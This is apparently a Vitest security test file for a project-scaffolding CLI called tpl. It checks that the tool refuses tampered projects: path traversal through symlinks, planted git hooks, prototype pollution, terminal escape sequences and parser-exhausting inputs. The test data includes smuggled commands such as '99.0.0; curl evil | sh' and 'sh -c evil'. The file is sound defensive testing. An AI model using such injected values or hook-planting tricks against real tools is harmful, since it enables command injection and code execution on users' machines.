import { createHash } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createShop, expectRefusal, type Shop } from './shop.ts'

const repository = join(import.meta.dirname, '../../../..')

let shop: Shop
let outside: string

beforeAll(async () => {
  shop = await createShop()
})
beforeEach(() => {
  shop.restore()
  outside = mkdtempSync(join(tmpdir(), 'tpl-outside-'))
})
afterEach(() => rmSync(outside, { recursive: true, force: true }))
afterAll(() => shop.dispose())

const digest = (text: string): string => createHash('sha256').update(text).digest('hex')
const addEntity = 'add entity Invoice total:int'
const commands = [addEntity, 'add field Order note:text:optional', 'docs config'] as const

describe('a project from the internet with a journal that was written by hand', () => {
  function plant(path: string): void {
    const steps = [{ path, before: null, after: digest('evil') }]
    const journal = { format: 1, steps, newFolders: [], emptiedFolders: [] }
    shop.write('.tpl-commit/commit.json', JSON.stringify(journal))
    shop.write('.tpl-commit/new-0', 'evil')
    chmodSync(join(shop.root, '.tpl-commit/new-0'), 0o755)
  }

  it.each(commands)('cannot make tpl %s plant a hook of git', async (command) => {
    mkdirSync(join(shop.root, '.git/hooks'), { recursive: true })
    plant('.git/hooks/post-checkout')
    await expectRefusal(shop, command, {
      code: 'foreign-journal',
      message: 'tpl writes nothing into .git',
      remedy: 'Compare the project with your version control',
    })
  })

  it.each(['../evil', 'src/../../evil', 'link/evil'])('nor write to %s', async (path) => {
    symlinkSync(outside, join(shop.root, 'link'))
    plant(path)
    const ran = await shop.run(addEntity)
    expect(ran).toMatchObject({ exitCode: 1, stdout: '' })
    expect(readdirSync(outside)).toEqual([])
    expect(existsSync(join(shop.root, '../evil'))).toBe(false)
  })

  it('is not followed where the folder of the journal is a link', async () => {
    writeFileSync(join(outside, 'commit.json'), '{}')
    symlinkSync(outside, join(shop.root, '.tpl-commit'))
    await expectRefusal(shop, addEntity, {
      code: 'foreign-journal',
      message: 'it is not a folder',
      remedy: 'delete .tpl-commit',
    })
    expect(readdirSync(outside)).toEqual(['commit.json'])
  })

  it('writes nothing in a dry run, not even what an honest one would', async () => {
    plant('src/evil.ts')
    await expectRefusal(shop, `${addEntity} --dry-run`, {
      code: 'interrupted',
      message: 'An earlier command was interrupted',
      remedy: 'without --dry-run',
    })
    const ran = await shop.run(addEntity)
    expect(shop.read('src/evil.ts')).toBe('evil')
    expect(ran.stderr).toBe('An interrupted command was finished first.\n')
    expect(ran.stdout).toMatch(/^Added /)
  })
})

describe('a project from the internet with links out of it', () => {
  it.each([
    ['src/modules', addEntity],
    ['prisma/migrations', addEntity],
    ['prisma/schema', addEntity],
  ])('in place of %s has tpl %s write nothing there', async (path, command) => {
    const there = join(shop.root, path)
    if (existsSync(there)) copyAndRemove(there)
    symlinkSync(outside, there)
    const before = listed()
    const ran = await shop.run(command)
    expect(ran.stderr).toContain(`${path} is a symbolic link`)
    expect(listed()).toEqual(before)
  })

  it.each(['tpl.json', 'prisma.config.ts', 'src/modules/index.ts', 'biome.json'])(
    'to a device in place of %s does not have it read on and on',
    async (path) => {
      shop.remove(path)
      symlinkSync('/dev/zero', join(shop.root, path))
      const ran = await shop.run(addEntity)
      expect(ran.stderr).not.toContain('mistake in create-tpl-api')
    },
  )

  function copyAndRemove(folder: string): void {
    for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
      if (!entry.isFile()) continue
      const to = join(outside, entry.parentPath.slice(folder.length))
      mkdirSync(to, { recursive: true })
      writeFileSync(join(to, entry.name), readFileSync(join(entry.parentPath, entry.name)))
    }
    rmSync(folder, { recursive: true })
  }

  const listed = (): Record<string, string> =>
    Object.fromEntries(
      readdirSync(outside, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name))
        .map((path) => [path, readFileSync(path, 'utf8')]),
    )
})

describe('a project from the internet with a tpl.json that was tampered with', () => {
  const broken = { code: 'project-broken', message: 'tpl.json', remedy: 'Restore it' }
  it.each<[string, string]>([
    ['a list', '[]'],
    ['a number', '7'],
    ['nothing but depth', '['.repeat(100_000)],
    ['answers of other types', '{"blueprint":{"name":"service","version":1},"answers":[]}'],
    [
      'a command in place of the package manager',
      '{"blueprint":{"name":"service","version":"0.1.0"},"answers":{"packageManager":"sh -c evil"}}',
    ],
    [
      'a command behind the version',
      '{"blueprint":{"name":"service","version":"99.0.0; curl evil | sh"},"answers":{}}',
    ],
    ['no object, but its prototype', '{"__proto__":{"blueprint":{},"answers":{}}}'],
  ])('that holds %s is refused', async (_, text) => {
    shop.write('tpl.json', text)
    await expectRefusal(shop, addEntity, broken)
  })

  it('changes no object but its own', async () => {
    const { blueprint } = JSON.parse(shop.read('tpl.json'))
    const pollution = '{"isPolluted":true}'
    const answers = `{"__proto__":${pollution},"constructor":{"prototype":${pollution}}}`
    shop.write('tpl.json', `{"blueprint":${JSON.stringify(blueprint)},"answers":${answers}}`)
    await shop.run(`${addEntity} --dry-run`)
    expect({}).not.toHaveProperty('isPolluted')
  })
})

describe('a project from the internet with sequences that a terminal obeys', () => {
  it('has them shown in an error, not sent', async () => {
    shop.write('prisma/schema/order.prisma', '\u001b]0;title\u0007\u001b[2J evil\u009b\n')
    const ran = await shop.run(addEntity)
    expect(ran.stderr).toContain('this line is no part of a block')
    expect(ran.stderr.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u)
  })

  it('has them shown in the owner of a lock, not sent', async () => {
    shop.write(`.tpl-commit/owner.1..${encodeURIComponent('\u001b[2Jevil')}`, '')
    const ran = await shop.run(addEntity)
    expect(ran.stderr).toContain('Another tpl command is running')
    expect(ran.stderr.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u)
  })
})

describe('a project from the internet whose tsconfig.json leads out of it', () => {
  it('is not followed there: a file is parsed by itself', async () => {
    symlinkSync('/dev/zero', join(outside, 'base.json'))
    const compilerOptions = { paths: { '*': ['/*'] }, plugins: [{ name: '../evil' }] }
    const config = { extends: join(outside, 'base.json'), compilerOptions, include: ['/**/*'] }
    shop.write('tsconfig.json', JSON.stringify(config))
    expect((await shop.run(`${addEntity} --dry-run`)).exitCode).toBe(0)
  })
})

describe('a project from the internet with a file that is slow to read', () => {
  it.each([
    ['texts without an end', `schema: join(${"'a'    ".repeat(5000)}!`],
    ['settings without an end', 'migrations:{'.repeat(20_000)],
    ['comments without an end', '/*'.repeat(100_000)],
  ])('%s in prisma.config.ts, is read at once', async (_, config) => {
    shop.write('prisma.config.ts', config)
    expect((await shop.run(`${addEntity} --dry-run`)).exitCode).toBe(0)
  })
})

describe('the code of a project that tpl runs', () => {
  beforeEach(() => {
    // Whatever else tpl might run leaves its name as well.
    for (const name of ['biome', 'prisma', 'tsc', 'tsx', 'vitest', 'git', 'node']) {
      shop.write(`node_modules/.bin/${name}`, `#!/bin/sh\necho ${name} >> ${outside}/ran\n`)
      chmodSync(join(shop.root, 'node_modules/.bin', name), 0o755)
    }
    symlinkSync(join(repository, 'node_modules/tsx'), join(shop.root, 'node_modules/tsx'))
    const mark = (path: string) =>
      `process.getBuiltinModule('node:fs').appendFileSync('${outside}/ran', '${path}\\n')\n`
    for (const path of ['prisma.config.ts', 'vitest.config.ts', 'src/modules/orders/index.ts']) {
      shop.write(path, mark(path) + shop.read(path))
    }
    shop.write('src/config/describe.ts', mark('src/config/describe.ts'))
  })

  it.each([
    [`${addEntity} --dry-run`, ['biome']],
    ['add field Order note:text:optional --dry-run', ['biome']],
    ['add cache Customer --dry-run', ['biome']],
    [addEntity, ['biome', 'prisma']],
    ['docs config', ['src/config/describe.ts']],
    ['docs config --check', ['src/config/describe.ts']],
    ['docs config --output docs/settings.md --dry-run', ['src/config/describe.ts']],
    ['--help', []],
    ['add --help', []],
  ])('tpl %s runs %j', async (command, expected) => {
    const ran = await shop.run(command)
    expect(ran.stderr).not.toContain('mistake in create-tpl-api')
    const names = existsSync(join(outside, 'ran')) ? readFileSync(join(outside, 'ran'), 'utf8') : ''
    expect([...new Set(names.split('\n'))].filter(Boolean)).toEqual(expected)
  })
})
